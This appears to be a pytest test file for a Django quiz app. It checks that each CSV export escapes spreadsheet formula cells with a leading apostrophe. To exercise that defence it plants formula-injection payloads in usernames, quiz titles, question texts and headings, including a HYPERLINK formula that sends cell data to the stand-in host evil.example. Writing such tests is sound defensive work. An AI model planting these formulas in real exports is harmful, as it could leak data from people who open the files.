"""Every CSV download guards the cells a spreadsheet would run as formulas:
usernames students chose, quiz titles, question texts and passage headings."""

import csv
import io

import pytest
from django.urls import reverse

from questions.formats import csv_format
from questions.models import Passage, Question
from questions.services.classrooms import classroom_create, quiz_assign
from tests.factories import QuestionFactory, QuizFactory, TeacherFactory, UserFactory
from tests.test_classrooms import take

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def table(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))


def cells(response) -> set[str]:
    return {cell for row in table(response) for cell in row}


@pytest.fixture
def hostile_class(client):
    """A class whose student, quiz, question and passage carry formulas."""
    teacher = TeacherFactory()
    classroom = classroom_create(name="반", teacher=teacher)
    question = QuestionFactory(text="+1+1 은 얼마인가?", passage__section_heading="-2+3")
    quiz = QuizFactory(title=LINK, with_questions=[question])
    quiz_assign(classroom=classroom, quiz=quiz)
    student = UserFactory(username="@SUM(1)")
    classroom.students.add(student)
    take(student, quiz, [1])
    client.force_login(teacher)
    return classroom, quiz, student


def report(client, name, classroom, *args):
    url = reverse(f"questions:{name}", args=[classroom.pk, *args])
    return client.get(url + "?format=csv")


def test_the_class_overview_guards_usernames_and_quiz_titles(client, hostile_class):
    classroom, _, _ = hostile_class
    found = cells(report(client, "class_overview", classroom))
    assert "'@SUM(1)" in found and "'" + LINK in found and LINK not in found


def test_the_student_report_guards_quiz_titles(client, hostile_class):
    classroom, _, student = hostile_class
    found = cells(report(client, "student_report", classroom, student.pk))
    assert "'" + LINK in found and LINK not in found


def test_the_document_heatmap_guards_passage_headings(client, hostile_class):
    classroom, _, _ = hostile_class
    headings = {p.heading for p in Passage.objects.all()}
    found = cells(report(client, "heatmap", classroom))
    assert any(h.startswith("-2+3") for h in headings)
    assert not any(cell.startswith("-2+3") for cell in found)
    assert any(cell.startswith("'-2+3") for cell in found)


def test_quiz_statistics_guard_question_texts(client, hostile_class):
    classroom, quiz, _ = hostile_class
    rows = table(report(client, "quiz_statistics", classroom, quiz.slug))
    assert rows[1][1] == "'+1+1 은 얼마인가?"


def test_the_admin_bank_export_guards_cells_and_reads_back_as_it_was(client, hostile_class):
    Question.objects.update(text=LINK)
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    export = client.get(reverse("admin:questions_question_export") + "?format=csv")
    text = export.content.decode("utf-8")
    assert "'" + LINK.replace('"', '""') in text
    assert [q.text for q in csv_format.loads(text)] == [LINK]
